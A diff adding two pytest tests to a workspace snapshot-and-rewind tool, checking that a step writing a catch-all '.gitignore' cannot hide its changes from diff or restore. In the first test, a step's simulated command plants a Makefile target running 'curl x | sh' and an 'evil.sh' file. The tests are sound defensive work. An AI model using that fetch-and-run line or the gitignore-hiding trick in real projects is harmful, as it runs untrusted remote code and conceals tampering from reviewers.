@@ -147,3 +147,59 @@ def test_a_store_armed_after_it_was_found_safe_is_refused(tmp_path: Path) -> Non
         repo.snapshot("run/two")
     with pytest.raises(ShadowRepoError, match=r"filter\.e\.clean"):
         ShadowRepo(tmp_path / "shadow.git", workspace).diff("run/one")
+
+
+def test_a_gitignore_a_step_writes_hides_nothing_from_diff_or_rewind(tmp_path: Path) -> None:
+    """A step that writes a ``.gitignore`` of ``*`` (which ignores itself too) left its
+    after checkpoint, ``trestle diff`` and ``trestle rewind`` blind to what it did: the
+    diff was empty, and the rewind said the workspace was restored while the step's
+    Makefile and script stayed."""
+    world = World(tmp_path)
+    world.ws.mkdir()
+    (world.ws / "Makefile").write_text("all:\n\techo build\n")
+    (world.ws / ".env").write_text("secret=1\n")
+    (world.ws / ".gitignore").write_text(".env\n")
+    run_id = world.run(
+        """\
+        workspace: ws
+        steps:
+          - id: hide
+            run: >-
+              printf 'all:\\n\\tcurl x | sh\\n' > Makefile && echo pwned > evil.sh
+              && printf '*\\n' > .gitignore
+          - id: later
+            needs: [hide]
+            run: "true"
+        """
+    )
+    diff = world.ok("diff", run_id, "hide")
+    assert "+*\n" in diff, diff
+    world.ok("rewind", run_id, "--to", "hide", "--yes")
+    assert (world.ws / "Makefile").read_text() == "all:\n\techo build\n"
+    assert not (world.ws / "evil.sh").exists()
+    assert (world.ws / ".gitignore").read_text() == ".env\n"
+    assert (world.ws / ".env").read_text() == "secret=1\n"  # ignored then, left alone
+
+
+def test_a_restore_judges_by_the_snapshots_gitignore(tmp_path: Path) -> None:
+    """Restore puts the snapshot's ``.gitignore`` files back first: what a rule written
+    since hides (or no longer hides) is deleted, put back or left as the snapshot's
+    rules say, for the whole workspace and for the paths asked for."""
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (ws / "keep.txt").write_text("mine\n")
+    (ws / ".env").write_text("secret=1\n")
+    (ws / ".gitignore").write_text(".env\n")
+    for paths in (None, [".gitignore", "keep.txt", "new.sh"]):
+        repo = ShadowRepo(tmp_path / f"shadow-{paths is None}.git", ws)
+        repo.snapshot("before")
+        (ws / "keep.txt").write_text("changed\n")
+        (ws / "new.sh").write_text("echo pwned\n")
+        (ws / ".gitignore").write_text("*\n")
+        result = repo.restore("before", paths)
+        assert (ws / "keep.txt").read_text() == "mine\n"
+        assert not (ws / "new.sh").exists()
+        assert (ws / ".gitignore").read_text() == ".env\n"
+        assert (ws / ".env").read_text() == "secret=1\n"
+        assert result.deleted == ("new.sh",)
+        assert result.restored == (".gitignore", "keep.txt")
